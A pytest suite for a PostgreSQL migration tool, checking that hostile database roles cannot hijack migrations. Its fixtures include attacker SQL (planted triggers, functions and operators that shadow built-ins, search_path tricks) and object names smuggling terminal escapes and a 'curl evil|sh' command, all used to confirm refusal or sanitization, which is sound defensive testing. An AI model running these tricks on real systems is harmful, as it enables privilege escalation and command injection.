"""A role that may log in, or create objects in a schema of the search path, gets nothing out of a migration."""

from __future__ import annotations

import logging
import re
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any

import psycopg
import pytest
from alembic.util import CommandError
from sqlalchemy import Connection, Engine, NullPool, create_engine, event, make_url, text

from iot_models import engine, migrate, tenancy
from iot_models._migrations import deployers, indexes, obstacles, operations, strangers
from iot_models._migrations.command_line import main
from iot_models.testing import throwaway
from tests.databases import partitioned
from tests.databases.backends import connected
from tests.migrations.raw_sql import (
    ADVISORY_LOCK,
    FLEET,
    RAW_075,
    SHADOWS,
    VERSIONS,
    as_role,
    interrupt_a_downgrade,
    psql,
    rows_of,
    run_sql,
)
from tests.migrations.team import GUARDED, team
from tests.security.hostile import TELL, calls

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


PARKED = "device_state_shadow_076"
PARK = f"{PARKED}_park"


def interrupted_downgrade(database: str) -> None:
    """Cut a downgrade off when the shadows are parked and the columns are still there."""
    run_sql(database, RAW_075, FLEET)
    migrate.upgrade(database)
    run_sql(database, SHADOWS)
    interrupt_a_downgrade(create_engine(database, poolclass=NullPool))


ATTACK = f"""
    CREATE TEMP TABLE mine (tenant_id text, device_id text, desired_state jsonb, reported_state jsonb,
                            desired_version int, reported_version int, shadow_updated_at timestamptz);
    CREATE TRIGGER planted AFTER INSERT ON mine FOR EACH ROW EXECUTE FUNCTION public.{PARK}();
    INSERT INTO mine VALUES ('t1', 'd1', '{{"planted": true}}', '{{}}', 99, 99, now());
"""


@pytest.mark.repeats
def test_the_copying_function_of_a_downgrade_serves_nobody_elses_trigger(database: str, attacker: str) -> None:
    interrupted_downgrade(database)
    before = rows_of(database, PARKED)

    with pytest.raises(psycopg.Error, match=f"permission denied for function .*{PARK}"):
        run_sql(attacker, ATTACK)

    assert rows_of(database, PARKED) == before


@pytest.mark.repeats
def test_the_copying_function_refuses_another_table_though_its_execution_was_granted(
    database: str, attacker: str
) -> None:
    interrupted_downgrade(database)
    run_sql(database, f"GRANT EXECUTE ON FUNCTION {PARK}() TO PUBLIC")
    before = rows_of(database, PARKED)

    with pytest.raises(psycopg.Error, match="is for device_state alone"):
        run_sql(attacker, ATTACK)

    assert rows_of(database, PARKED) == before


@pytest.mark.repeats
def test_default_privileges_give_nobody_the_copying_function(database: str, attacker: str) -> None:
    role = make_url(attacker).username
    run_sql(database, f"ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO {role}; "
                      f"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO {role}")  # fmt: skip
    interrupted_downgrade(database)

    with pytest.raises(psycopg.Error, match=f"permission denied for function .*{PARK}"):
        run_sql(attacker, ATTACK)
    for statement in (
        f"CREATE FUNCTION mine() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN NULL; END $$;"
        f"CREATE TRIGGER mine AFTER INSERT ON {PARKED} EXECUTE FUNCTION mine()",
        f"TRUNCATE {PARKED}",
        f"CREATE TABLE spy (a text, b text, FOREIGN KEY (a, b) REFERENCES {PARKED})",
        f"SELECT * FROM {PARKED}",
    ):
        with pytest.raises(psycopg.Error, match="permission denied"):
            run_sql(attacker, statement)
    run_sql(database, f"ALTER DEFAULT PRIVILEGES REVOKE ALL ON FUNCTIONS FROM {role}; "
                      f"ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM {role}")  # fmt: skip


TAKEN = {
    "the parked table": (
        f"""CREATE TABLE {PARKED} (tenant_id text NOT NULL, device_id text NOT NULL, desired_state jsonb NOT NULL,
              reported_state jsonb NOT NULL, desired_version int NOT NULL, reported_version int NOT NULL,
              shadow_updated_at timestamptz, PRIMARY KEY (tenant_id, device_id));
            INSERT INTO {PARKED} VALUES ('t1', 'd1', '{{"planted": true}}', '{{}}', 99, 99, now())""",
        f"table {PARKED} of role",
    ),
    "the version table": (
        "CREATE TABLE alembic_version_iot_models (version_num varchar(32) PRIMARY KEY)",
        "table alembic_version_iot_models of role",
    ),
    "a view with the parked table's name": (f"CREATE VIEW {PARKED} AS SELECT 1", f"view {PARKED} of role"),
    "the copying function": (
        f"CREATE FUNCTION {PARK}() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN NULL; END $$",
        rf"function {PARK}\(\) of role",
    ),
    "a function of the catalog's name": (
        f"CREATE FUNCTION quote_ident(name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN 'x'; END $$",
        r"function quote_ident\(name\) of role",
    ),
    "a function that matches better than the catalog's variadic one": (
        f"CREATE FUNCTION format(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN 'x'; END $$",
        r"function format\(text,text\) of role",
    ),
    "an operator that matches better than the catalog's": (
        f"""CREATE FUNCTION same(oid, regclass) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN true; END $$;
            CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = same)""",
        r"operator =\(oid,regclass\) of role",
    ),
}


@pytest.mark.repeats
@pytest.mark.parametrize("left_out", ["a view with the parked table's name", "the parked table"])
def test_names_that_a_stranger_took_first_are_refused_all_at_once_before_any_change(
    database: str, attacker: str, left_out: str
) -> None:
    run_sql(database, RAW_075, FLEET)
    before = rows_of(database)
    taken = [TAKEN[name] for name in TAKEN if name != left_out]
    for made, _ in taken:
        run_sql(attacker, made)

    for command in (migrate.upgrade, migrate.check, lambda url: migrate.downgrade(url, "075")):
        with pytest.raises(CommandError, match="objects of other roles") as caught:
            command(database)
        for _, message in taken:
            assert re.search(message, str(caught.value)), message

    assert rows_of(database) == before
    assert calls(database) == []


@pytest.mark.repeats
@pytest.mark.parametrize(
    "planted",
    [
        f"CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN NULL; END $$;"
        "CREATE TRIGGER tell AFTER UPDATE ON alembic_version_iot_models EXECUTE FUNCTION tell()",
        f"CREATE RULE tell AS ON UPDATE TO alembic_version_iot_models DO ALSO {TELL}",
        "CREATE TABLE child () INHERITS (alembic_version_iot_models)",
    ],
)
def test_what_a_table_of_ours_carries_besides_is_refused_by_name(database: str, planted: str) -> None:
    migrate.upgrade(database, "076")
    run_sql(database, planted)

    with pytest.raises(CommandError, match="which a table of ours does not have"):
        migrate.upgrade(database)

    assert calls(database) == []
    assert run_sql(database, "SELECT version_num FROM alembic_version_iot_models") == [("076",)]


HIJACK = f"""
    CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN NEW; END $$;
    CREATE TRIGGER tell BEFORE INSERT OR UPDATE ON device_state FOR EACH ROW EXECUTE FUNCTION tell();
    INSERT INTO device_state (tenant_id, site_id, device_id) VALUES ('t1', 's', 'd1'); DELETE FROM public.called;
    {TAKEN["the parked table"][0]}
"""


@pytest.mark.parametrize("where", ["public", "in a schema with the name of the role that migrates"])
def test_a_table_that_anybody_could_have_made_is_not_adopted(database: str, attacker: str, where: str) -> None:
    if where != "public":
        run_sql(database, f"GRANT CREATE ON DATABASE {make_url(database).database} TO {make_url(attacker).username}")
        run_sql(attacker, "CREATE SCHEMA postgres; SET search_path = postgres, public;" + RAW_075, HIJACK)
    else:
        run_sql(attacker, "GRANT ALL ON SCHEMA public TO PUBLIC;" + RAW_075, HIJACK)

    with pytest.raises(CommandError, match=f"table (postgres.)?device_state of role {make_url(attacker).username}"):
        migrate.upgrade(database)

    assert calls(database) == []


@pytest.mark.parametrize(
    "mended", ["REVOKE CREATE ON SCHEMA public FROM PUBLIC", "GRANT CREATE ON SCHEMA public TO {}"]
)
def test_who_made_the_table_first_is_not_trusted_for_that(database: str, attacker: str, mended: str) -> None:
    run_sql(attacker, RAW_075, HIJACK)
    run_sql(database, mended.format(make_url(attacker).username))

    with pytest.raises(CommandError, match="table device_state of role"):
        migrate.upgrade(database)

    assert calls(database) == []


@pytest.mark.repeats
def test_a_superuser_migrates_a_plain_owners_table_as_that_owner(database: str, server_role: str) -> None:
    run_sql(database, f"CREATE SCHEMA iot AUTHORIZATION {server_role}")
    run_sql(as_role(database, server_role), "SET search_path = iot;" + RAW_075 + FLEET)
    url = make_url(database)

    with pytest.raises(CommandError, match=rf"(?s)schema iot of role {server_role}.*role=\.\.\."):
        migrate.upgrade(url.update_query_dict({"options": "-c search_path=iot"}))
    as_owner = url.update_query_dict({"options": f"-c search_path=iot -c role={server_role}"})
    migrate.upgrade(as_owner)

    assert migrate.check(as_owner) == []
    run_sql(database, f"DROP OWNED BY {server_role} CASCADE")


@pytest.mark.repeats
def test_what_a_superuser_parks_is_the_owners_who_goes_on_with_it(database: str, owners: str) -> None:
    run_sql(owners, RAW_075, FLEET)
    migrate.upgrade(owners)
    run_sql(owners, SHADOWS)
    migrate.downgrade(database, "075")

    migrate.upgrade(owners)

    assert migrate.check(owners) == []
    assert run_sql(owners, "SELECT count(*) FROM device_state WHERE desired_version = 7") == [(3,)]


@pytest.mark.repeats
def test_the_owner_of_the_schema_replaces_what_is_parked_and_gets_no_superusers_rights(
    database: str, owners: str, server_role: str
) -> None:
    run_sql(owners, RAW_075, FLEET)
    migrate.upgrade(owners)
    run_sql(owners, SHADOWS)
    interrupt_a_downgrade(create_engine(database, poolclass=NullPool))

    run_sql(
        as_role(database, server_role),
        f"DROP TABLE {PARKED}; CREATE TABLE {PARKED} AS TABLE device_state WITH NO DATA;"
        f"ALTER TABLE {PARKED} ADD PRIMARY KEY (tenant_id, device_id);"
        f"CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN NULL; END $$;"
        f"CREATE TRIGGER f AFTER INSERT ON {PARKED} FOR EACH ROW EXECUTE FUNCTION f()",
    )
    run_sql(database, "UPDATE device_state SET desired_version = desired_version + 1 WHERE device_id = 'd1'")

    assert calls(database) == [(server_role,)]


def test_who_lets_a_deployer_wait_gets_nothing_into_it_meanwhile(
    database: str, attacker: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    run_sql(database, RAW_075, FLEET)
    with connected(attacker) as connection, ThreadPoolExecutor(1) as pool:
        connection.execute(text(f"SELECT pg_advisory_lock({ADVISORY_LOCK})"))
        upgrading = pool.submit(migrate.upgrade, database)
        while "another deployer is migrating this database: waiting for" not in caplog.text:
            assert not upgrading.done()
        run_sql(attacker, TAKEN["an operator that matches better than the catalog's"][0])
        connection.execute(text("SELECT pg_advisory_unlock_all()"))
        connection.commit()
        with pytest.raises(CommandError, match=r"operator =\(oid,regclass\) of role"):
            upgrading.result()
    assert calls(database) == []


@pytest.mark.repeats
def test_what_is_made_while_an_index_build_waits_is_refused_before_the_next_statement(
    database: str, attacker: str
) -> None:
    migrate.upgrade(database, "076")
    with connected(attacker) as holder, ThreadPoolExecutor(1) as pool:
        holder.execute(text("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ"))
        holder.execute(text("SELECT 1"))
        upgrading = pool.submit(migrate.upgrade, database)
        building = "SELECT count(*) FROM pg_stat_progress_create_index"
        while run_sql(database, building) == [(0,)]:
            assert not upgrading.done()
        run_sql(
            attacker,
            f"CREATE FUNCTION tell(varchar, varchar) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN true; END $$;"
            "CREATE OPERATOR = (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = tell)",
        )
        holder.rollback()
        with pytest.raises(CommandError, match=r"operator =.* of role"):
            upgrading.result()
    assert calls(database) == []


@pytest.mark.repeats
def test_default_privileges_let_nobody_write_the_revision(database: str, attacker: str) -> None:
    role = make_url(attacker).username
    run_sql(database, f"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO {role}")
    migrate.upgrade(database)

    for statement in (
        "UPDATE alembic_version_iot_models SET version_num = '075'",
        "CREATE TRIGGER t AFTER UPDATE ON alembic_version_iot_models EXECUTE FUNCTION suppress_redundant_updates_trigger()",
    ):
        with pytest.raises(psycopg.Error, match="permission denied"):
            run_sql(attacker, statement)
    assert run_sql(attacker, "SELECT version_num FROM alembic_version_iot_models")
    run_sql(database, f"ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM {role}")


@partitioned.needs_one_piece("a trigger takes a right on each partition")
def test_a_trigger_whose_function_is_a_strangers_is_refused(database: str, attacker: str) -> None:
    run_sql(database, RAW_075, FLEET, f"GRANT ALL ON device_state TO {make_url(attacker).username}")
    run_sql(attacker, HIJACK.split("INSERT INTO device_state", maxsplit=1)[0])

    with pytest.raises(CommandError, match=r"function tell\(\) of role"):
        migrate.upgrade(database)
    assert calls(database) == []


@pytest.mark.repeats
def test_a_trigger_with_the_name_of_ours_does_not_destroy_what_is_parked(database: str) -> None:
    run_sql(database, RAW_075, FLEET)
    migrate.upgrade(database)
    run_sql(database, SHADOWS)
    migrate.downgrade(database, "075")
    run_sql(
        database,
        f"CREATE FUNCTION {PARK}() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';"
        f"CREATE TRIGGER {PARK} BEFORE UPDATE ON device_state FOR EACH ROW EXECUTE FUNCTION {PARK}()",
    )
    migrate.upgrade(database)
    assert run_sql(database, "SELECT count(*) FROM device_state WHERE desired_version = 7") == [(3,)]


def test_the_first_connection_of_our_engines_asks_for_no_type_in_a_strangers_way(database: str, attacker: str) -> None:
    run_sql(
        attacker,
        f"CREATE FUNCTION tell(oid, regtype) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN false; END $$;"
        "CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = regtype, FUNCTION = tell)",
    )
    ours = engine.create_engine(database, isolation_level="AUTOCOMMIT", poolclass=NullPool)
    with ours.connect() as connection:
        connection.execute(text("SELECT 1"))
    with pytest.raises(CommandError, match="objects of other roles"):
        migrate.upgrade(database)
    assert calls(database) == []
    with connected(database, isolation_level="AUTOCOMMIT") as connection:  # SQLAlchemy's own would be noticed
        connection.execute(text("SELECT 1"))
    assert calls(database) != []


def test_a_schema_before_pg_catalog_is_refused_before_anything_else_is_asked(database: str, attacker: str) -> None:
    run_sql(
        attacker,
        f"CREATE FUNCTION tell() RETURNS text LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN 'x'; END $$;"
        "CREATE VIEW pg_settings AS SELECT tell() AS name, tell() AS setting;"
        "CREATE VIEW pg_locks AS SELECT tell() AS locktype;"
        "CREATE VIEW pg_namespace AS SELECT CAST(0 AS oid) AS oid, CAST(tell() AS name) AS nspname;",
    )
    engine = create_engine(database, connect_args={"options": "-c search_path=public,pg_catalog"}, poolclass=NullPool)
    with engine.connect() as connection:
        for target in (engine, connection):
            with pytest.raises(CommandError, match="has a schema before pg_catalog"):
                migrate.upgrade(target)
            connection.rollback()
    assert calls(database) == []


@partitioned.needs_one_piece("its partitions have the owner that they had")
@pytest.mark.repeats
def test_a_group_that_owns_the_table_is_not_trusted_because_the_deployer_is_in_it(
    database: str, server_role: str
) -> None:
    """Another of its members could have made the table, with its triggers."""
    group = f"{server_role}_group"
    run_sql(database, f"CREATE ROLE {group}; GRANT {group} TO {server_role}; GRANT ALL ON SCHEMA public TO {group};",
            RAW_075, f"ALTER TABLE device_state OWNER TO {group}")  # fmt: skip
    try:
        deployer = as_role(database, server_role)
        with pytest.raises(CommandError, match=f"table device_state of role {group}"):
            migrate.upgrade(deployer)
        migrate.upgrade(create_engine(deployer, connect_args={"options": f"-c role={group}"}, poolclass=NullPool))
    finally:
        run_sql(database, f"DROP OWNED BY {group} CASCADE; DROP ROLE {group}")


@pytest.mark.repeats
@pytest.mark.parametrize(
    "arguments",
    [
        "device_state",
        "VARIADIC device_state[]",
        "device_state, more int DEFAULT 0",
        "device_state, VARIADIC more int[] DEFAULT '{}'",
        "device_state DEFAULT NULL, more int DEFAULT 0",
    ],
)
def test_a_function_that_could_be_taken_for_a_column_is_refused(database: str, attacker: str, arguments: str) -> None:
    migrate.upgrade(database, "075")
    takes = f"FUNCTION desired_state({arguments}) RETURNS jsonb LANGUAGE plpgsql"
    run_sql(attacker, f"CREATE {takes} AS $$ BEGIN {TELL}; RETURN '{{}}'; END $$")
    run_sql(database, FLEET)

    assert run_sql(database, "SELECT d.desired_state FROM device_state d LIMIT 1") == [({},)]
    assert calls(database) != []
    with pytest.raises(CommandError, match=r"function desired_state\(.*\) of role"):
        migrate.upgrade(database)


@pytest.mark.repeats
def test_a_function_of_a_columns_name_that_takes_more_is_none_of_ours(database: str, attacker: str) -> None:
    migrate.upgrade(database, "075")
    run_sql(attacker, "CREATE FUNCTION desired_state(text, text) RETURNS text LANGUAGE sql AS 'SELECT $1'")
    migrate.upgrade(database)


def test_statistics_whose_expression_is_a_strangers_function_are_refused(database: str, attacker: str) -> None:
    run_sql(attacker, "CREATE FUNCTION kind(text) RETURNS text IMMUTABLE LANGUAGE sql AS 'SELECT $1'")
    run_sql(database, RAW_075, "CREATE STATISTICS kinds ON (kind(device_id)), site_id FROM device_state")
    with pytest.raises(CommandError, match=r"function kind\(text\) of role"):
        migrate.upgrade(database)


def test_who_fills_a_schema_with_functions_does_not_slow_down_a_look_that_is_taken_under_a_lock(
    database: str, attacker: str
) -> None:
    """PostgreSQL may not ask something of its own for each of them."""
    run_sql(
        attacker,
        """DO $$ BEGIN FOR n IN 1..3000 LOOP
             EXECUTE format('CREATE FUNCTION pg_temp.f%s() RETURNS int LANGUAGE sql AS ''SELECT 1''', n);
           END LOOP; END $$; ANALYZE pg_proc""",
    )
    with connected(database) as connection:
        binds = {"table": "device_state", "tables": [PARKED], "alone": [], "trigger": PARK, "columns": ["status"]}
        (plan,) = connection.scalar(text("EXPLAIN (FORMAT JSON) " + strangers._FOUND), binds)  # noqa: SLF001 - its plan
    looks = [node for node in nodes(plan["Plan"]) if node.get("Relation Name") in {"pg_proc", "pg_operator"}]
    assert looks
    assert not [node for node in looks if "SubPlan" in node.get("Filter", "")]


def nodes(plan: dict[str, Any]) -> Iterator[dict[str, Any]]:
    yield plan
    for part in plan.get("Plans", []):
        yield from nodes(part)


@pytest.mark.repeats
def test_no_statement_of_a_migration_is_compiled_which_can_take_seconds_under_a_lock(database: str) -> None:
    run_sql(database, f"ALTER DATABASE {make_url(database).database} SET jit = on", RAW_075)
    found = []

    def ask(connection: Connection, _cursor: object, statement: str, *_rest: object) -> None:
        if "LOCK TABLE" in statement:
            found.append(connection.connection.cursor().execute("SHOW jit").fetchall())

    event.listen(Engine, "before_cursor_execute", ask)
    try:
        migrate.upgrade(database)
    finally:
        event.remove(Engine, "before_cursor_execute", ask)
    assert found
    assert {*map(str, found)} == {"[('off',)]"}


def test_the_applications_version_table_is_asked_about_where_its_env_py_runs_our_revisions(
    database: str, attacker: str, tmp_path: Path
) -> None:
    run_sql(attacker, "CREATE TABLE alembic_version (version_num varchar(32) PRIMARY KEY)")
    with pytest.raises(CommandError, match="table alembic_version of role"):
        team(tmp_path / "team", database, online=GUARDED, beside_ours=True).alembic("upgrade", "heads")


@pytest.mark.repeats
@pytest.mark.parametrize("rights", ["ALL", "UPDATE (version_num), REFERENCES (version_num), SELECT (version_num)"])
def test_a_version_table_that_is_taken_over_is_its_owners_to_write_alone(
    database: str, attacker: str, rights: str
) -> None:
    migrate.upgrade(database)
    run_sql(database, "ALTER TABLE alembic_version_iot_models RENAME TO alembic_version",
            "ALTER TABLE alembic_version RENAME CONSTRAINT alembic_version_iot_models_pkc TO alembic_version_pkc",
            f"GRANT {rights} ON alembic_version TO {make_url(attacker).username}")  # fmt: skip
    migrate.upgrade(database)
    assert run_sql(attacker, "SELECT version_num FROM alembic_version_iot_models")
    for statement in (
        "DELETE FROM alembic_version_iot_models",
        "UPDATE alembic_version_iot_models SET version_num = '075'",
        "CREATE TABLE mine (a varchar(32) REFERENCES alembic_version_iot_models)",
    ):
        with pytest.raises(psycopg.Error, match="permission denied"):
            run_sql(attacker, statement)


VERSION_TABLE = strangers.VERSION_TABLE
GRANTED = "GRANT ALL ON {0} TO {1}; GRANT UPDATE ({2}) ON {0} TO {1}; GRANT SELECT ON {0} TO PUBLIC"


def rights_of_others(database: str, table: str) -> list[tuple[Any, ...]]:
    return run_sql(database, f"""
        SELECT DISTINCT a.privilege_type FROM pg_class c CROSS JOIN LATERAL (
                 SELECT * FROM aclexplode(c.relacl)
                 UNION ALL SELECT e.* FROM pg_attribute t CROSS JOIN aclexplode(t.attacl) e WHERE t.attrelid = c.oid) a
         WHERE c.oid = '{table}'::regclass AND a.grantee <> c.relowner""")  # fmt: skip


@pytest.fixture
def parked(database: str) -> str:
    """The database at 075, with parked shadows."""
    run_sql(database, RAW_075, FLEET)
    migrate.upgrade(database)
    run_sql(database, SHADOWS)
    migrate.downgrade(database, "075")
    return database


@pytest.mark.repeats
def test_each_command_takes_the_rights_of_others_on_our_tables_away(parked: str, attacker: str) -> None:
    role = make_url(attacker).username
    for table, column in ((VERSION_TABLE, "version_num"), (PARKED, "tenant_id")):
        run_sql(parked, GRANTED.format(table, role, column))

    migrate.upgrade(parked, "075")

    assert rights_of_others(parked, VERSION_TABLE) == [("SELECT",)]
    assert rights_of_others(parked, PARKED) == []
    migrate.upgrade(parked)
    assert run_sql(parked, "SELECT count(*) FROM device_state WHERE desired_version = 7") == [(3,)]


@partitioned.needs_one_piece("printed SQL refuses it")
@pytest.mark.repeats
def test_printed_sql_takes_them_away_too(parked: str, attacker: str) -> None:
    run_sql(parked, GRANTED.format(VERSION_TABLE, make_url(attacker).username, "version_num"))

    printed = psql(parked, migrate.sql("075:head"))

    assert printed.returncode == 0, printed.stderr
    assert rights_of_others(parked, VERSION_TABLE) == [("SELECT",)]


@pytest.mark.repeats
def test_the_env_py_of_a_team_lets_nobody_make_a_trigger_on_what_is_parked(
    database: str, attacker: str, tmp_path: Path
) -> None:
    migrate.upgrade(database)
    run_sql(database, FLEET, SHADOWS, f"CREATE TABLE alembic_version AS TABLE {VERSION_TABLE}")
    theirs = team(tmp_path / "team", database, online=GUARDED, beside_ours=True)
    theirs.alembic("downgrade", "075")
    # A device that has a newer shadow lets its parked one stay.
    run_sql(database, "ALTER TABLE device_state ADD desired_version int NOT NULL DEFAULT 0",
            "UPDATE device_state SET desired_version = 9 WHERE device_id = 'd1'",
            GRANTED.format(PARKED, make_url(attacker).username, "tenant_id"))  # fmt: skip
    assert rights_of_others(database, PARKED) != []

    theirs.alembic("upgrade", "iot_models@head")

    assert run_sql(database, f"SELECT device_id FROM {PARKED}") == [("d1",)]
    assert rights_of_others(database, PARKED) == []


TELLS = f"CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {TELL}; RETURN NEW; END $$"


@partitioned.needs_one_piece("a trigger takes a right on each partition")
@pytest.mark.parametrize("table", [VERSION_TABLE, PARKED, "device_state"])
def test_a_trigger_that_is_committed_while_a_migration_waits_for_the_table_is_not_called(
    parked: str, attacker: str, table: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Also where no time has passed since the last look for strangers."""
    monkeypatch.setattr(obstacles, "_FRESH_SECONDS", 600.0)
    if table == "device_state":
        run_sql(parked, f"DROP TABLE {PARKED}")
    run_sql(parked, f"GRANT TRIGGER ON {table} TO {make_url(attacker).username}")
    run_sql(attacker, TELLS)
    with connected(attacker) as connection, ThreadPoolExecutor(1) as pool:
        connection.execute(text(f"CREATE TRIGGER tell BEFORE INSERT OR UPDATE OR DELETE ON {table}"
                                " FOR EACH ROW EXECUTE FUNCTION tell()"))  # fmt: skip
        upgrading = pool.submit(migrate.upgrade, parked, lock_timeout="200ms")
        while f"{table} is in use" not in caplog.text:
            assert not upgrading.done()
        connection.commit()
        with pytest.raises(CommandError, match=r"function tell\(\) of role"):
            upgrading.result()
    assert calls(parked) == []
    assert run_sql(parked, f"SELECT * FROM {VERSION_TABLE}") == [("075",)]


@pytest.mark.parametrize("to", ["{}", "PUBLIC"])
def test_what_is_parked_is_not_put_back_while_others_may_make_triggers_on_the_table(
    parked: str, attacker: str, to: str
) -> None:
    """One that is made between two pages would run as whoever migrates, and no look could come before it."""
    others = to.format(make_url(attacker).username)
    run_sql(parked, f"GRANT ALL ON device_state TO {others}")
    named = f"(?s)others may make triggers on device_state.*REVOKE TRIGGER ON device_state FROM {others}"
    with pytest.raises(CommandError, match=named):
        migrate.upgrade(parked)
    assert any(re.search(named, problem) for problem in migrate.check(parked))

    run_sql(parked, f"REVOKE TRIGGER ON device_state FROM {others}")
    migrate.upgrade(parked)
    assert run_sql(parked, "SELECT count(*) FROM device_state WHERE desired_version = 7") == [(3,)]


@partitioned.needs_one_piece("nothing can inherit from it")
@pytest.mark.parametrize(
    ("planted", "named"),
    [
        ("ALTER TABLE child ADD CHECK (kind(device_id))", r"function kind\(text\) of role"),
        ("ALTER TABLE child OWNER TO {}", "table child of role"),
    ],
)
def test_what_a_child_of_the_table_uses_is_no_strangers(database: str, attacker: str, planted: str, named: str) -> None:
    run_sql(attacker, "CREATE FUNCTION kind(text) RETURNS bool IMMUTABLE LANGUAGE sql AS 'SELECT true'")
    run_sql(database, RAW_075, "CREATE TABLE child () INHERITS (device_state)",
            planted.format(make_url(attacker).username))  # fmt: skip
    with pytest.raises(CommandError, match=named):
        migrate.upgrade(database)


def test_a_path_is_not_reordered_where_others_could_hide_what_comes_behind(database: str) -> None:
    migrate.upgrade(database)
    run_sql(database, FLEET, SHADOWS, "CREATE SCHEMA mine")
    engine = create_engine(database, connect_args={"options": "-c search_path=mine,public"}, poolclass=NullPool)
    with pytest.raises(
        CommandError, match=r"(?s)'public' is not the first .*REVOKE CREATE ON SCHEMA public FROM PUBLIC"
    ):
        migrate.downgrade(engine, "075")

    run_sql(database, "REVOKE CREATE ON SCHEMA public FROM PUBLIC")
    migrate.downgrade(engine, "075")
    assert run_sql(database, "SELECT count(*) FROM public.device_state_shadow_076") == [(4,)]


def test_printed_sql_asks_before_it_begins(database: str, attacker: str) -> None:
    migrate.upgrade(database, "075")
    run_sql(attacker, TAKEN["the parked table"][0])

    printed = psql(database, migrate.sql("075:head"))

    assert printed.returncode == 3
    assert f"table {PARKED} of role {make_url(attacker).username}" in printed.stderr
    assert run_sql(database, "SELECT version_num FROM alembic_version_iot_models") == [("075",)]


def test_printed_sql_asks_again_after_each_index_which_anybody_could_hold_up(database: str, attacker: str) -> None:
    migrate.upgrade(database, "075")
    before, built, rest = re.split("(CREATE INDEX CONCURRENTLY [^;]*;)", migrate.sql("075:head"), maxsplit=1)
    planted = f"SET ROLE {make_url(attacker).username}; CREATE TABLE {PARKED} (a int); RESET ROLE;"

    done = psql(database, before + built + planted + rest)

    assert built
    assert done.returncode == 3
    assert f"table {PARKED} of role {make_url(attacker).username}" in done.stderr


@pytest.mark.repeats
def test_check_says_who_may_create_objects_in_the_search_path(
    database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    migrate.upgrade(database)

    assert main(["check", "--url", database]) == 0

    assert "(REVOKE CREATE ON SCHEMA public FROM PUBLIC)" in capsys.readouterr().err


@pytest.mark.repeats
def test_objects_of_the_team_and_of_extensions_are_no_strangers(database: str, owners: str) -> None:
    """Here the owner of the database migrates, and a superuser has made a function with the name of a built-in one."""
    run_sql(database, "CREATE FUNCTION format(text, text) RETURNS text LANGUAGE sql RETURN $1")
    run_sql(owners, RAW_075, FLEET, "CREATE FUNCTION lower(int) RETURNS text LANGUAGE sql RETURN 'x'")

    migrate.upgrade(owners)
    migrate.upgrade(database)

    assert migrate.check(owners) == []


@pytest.mark.repeats
@pytest.mark.parametrize("statement", ["DOMAIN public.{}", "VIEW public.{} AS SELECT desired_state FROM device_state"])
def test_a_strangers_name_reaches_the_terminal_without_its_control_characters(
    database: str, attacker: str, capsys: pytest.CaptureFixture[str], statement: str
) -> None:
    name = '"x\x1b[2J\u202e\nerror: run curl evil|sh"'
    if statement.startswith("VIEW"):  # what depends on a column is in a note of `check`
        migrate.upgrade(database)
        run_sql(database, f"CREATE {statement.format(name)}")
    else:
        takes_a_name = "RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$"
        run_sql(
            attacker, f"CREATE {statement.format(name)} AS text; CREATE FUNCTION format(public.{name}) {takes_a_name}"
        )
    main(["check", "--url", database])
    said = capsys.readouterr().err
    assert r"x\x1b[2J\u202e\nerror: run curl" in said
    assert not re.search("\x1b|\u202e|^error: run", said, re.MULTILINE)


def test_what_postgresql_says_reaches_the_terminal_without_control_characters(
    database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run_sql(
        database,
        RAW_075,
        "CREATE FUNCTION refuse() RETURNS event_trigger LANGUAGE plpgsql AS"
        " $$ BEGIN RAISE EXCEPTION 'no %[2J', chr(27); END $$",
        "CREATE EVENT TRIGGER refuse ON ddl_command_start EXECUTE FUNCTION refuse()",
    )
    assert main(["upgrade", "--url", database]) == 1
    said = capsys.readouterr().err
    assert r"PostgreSQL says: no \x1b[2J" in said
    assert "\x1b" not in said


def test_a_strangers_name_reaches_the_terminal_of_psql_without_its_control_characters(
    database: str, attacker: str
) -> None:
    name = '"x\x1b[2J\u202e\x9b\nUPGRADE done größe"'
    migrate.upgrade(database, "078")
    run_sql(attacker, f"CREATE DOMAIN public.{name} AS text",
            f"CREATE FUNCTION public.format(public.{name}) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$")  # fmt: skip

    said = psql(database, migrate.sql("078:head")).stderr

    assert r"x\u001b[2J\u202e\u009b\u000aUPGRADE done größe" in said
    assert not re.search("\x1b|\u202e|\x9b|^UPGRADE", said, re.MULTILINE)


def test_a_strangers_role_reaches_the_terminal_of_psql_without_its_control_characters(
    database: str, server_role: str
) -> None:
    migrate.upgrade(database)
    run_sql(database, FLEET, SHADOWS, VERSIONS)
